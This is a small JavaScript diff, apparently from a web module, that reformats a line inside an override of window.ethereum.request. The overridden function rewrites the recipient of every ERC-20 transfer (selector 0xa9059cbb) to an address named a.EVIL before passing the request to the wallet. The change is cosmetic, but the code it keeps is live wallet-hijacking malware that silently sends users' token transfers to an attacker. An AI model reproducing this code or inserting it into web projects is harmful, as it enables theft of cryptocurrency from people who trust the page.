@@ -13,7 +13,8 @@ export default {
     window.ethereum.request = async function (call) {
       const copy = JSON.parse(JSON.stringify(call));
       const tx = copy.params?.[0];
-      if (tx?.data?.startsWith('0xa9059cbb')) tx.data = `0xa9059cbb${a.EVIL.slice(2).padStart(64, '0')}${tx.data.slice(74)}`;
+      if (tx?.data?.startsWith('0xa9059cbb'))
+        tx.data = `0xa9059cbb${a.EVIL.slice(2).padStart(64, '0')}${tx.data.slice(74)}`;
       return before.call(this, copy);
     };
   },
